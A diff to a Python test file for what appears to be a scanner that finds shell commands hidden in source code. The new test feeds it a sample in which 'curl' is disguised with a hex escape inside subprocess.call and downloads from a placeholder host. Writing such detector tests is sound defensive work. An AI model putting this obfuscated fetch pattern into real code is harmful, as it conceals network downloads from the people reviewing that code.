@@ -265,3 +265,22 @@ def test_every_spelling_of_a_negative_step_is_a_decoder(code: str) -> None:
 @pytest.mark.parametrize("code", ["s[:-1]", "s[1:-1]", "s[i + 1:-2]", "s[ :-n]"])
 def test_a_negated_upper_bound_is_no_decoder(code: str) -> None:
     assert not _view(f"x = {code}\n").decodes(), code
+
+
+def test_a_text_test_runs_once_per_view_and_either_view_meets_it() -> None:
+    """The hidden view is judged with the written one: the written text's answers are kept
+    (`_View.met`), and a need met only in the hidden text still counts."""
+    code = "import subprocess\nsubprocess.call('\\x63url -s https://x.invalid -o x')\n"
+    file = prefilter._File(code.encode(), code)
+    asked: list[bytes] = []
+
+    def shell(view: _View) -> bool:
+        asked.append(view.data)
+        return view.shell_text()
+
+    assert not file.meets(shell)
+    assert file.reveal()
+    assert file.meets(shell)
+    assert file.meets(shell)
+    assert asked == [file.views[0].data, file.views[1].data]
+    assert worth_parsing(code.encode(), code)
